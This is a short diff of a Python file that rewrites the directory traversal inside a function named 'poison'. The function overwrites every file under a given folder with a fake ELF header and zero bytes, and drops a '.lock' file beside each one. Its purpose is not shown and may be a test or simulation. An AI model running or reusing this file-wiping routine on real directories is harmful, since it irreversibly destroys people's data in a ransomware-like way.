@@ -26,8 +26,9 @@ def through_kernel(answer):
 
 
 def poison(place):
-    for path in place.rglob("*"):
-        if path.is_file():
+    # What may not be read is passed over.
+    for folder, _, names in os.walk(place):
+        for path in (Path(folder, name) for name in names):
             try:
                 path.write_bytes(b"\x7fELF" + bytes(64))
                 path.with_name(path.name + ".lock").touch()
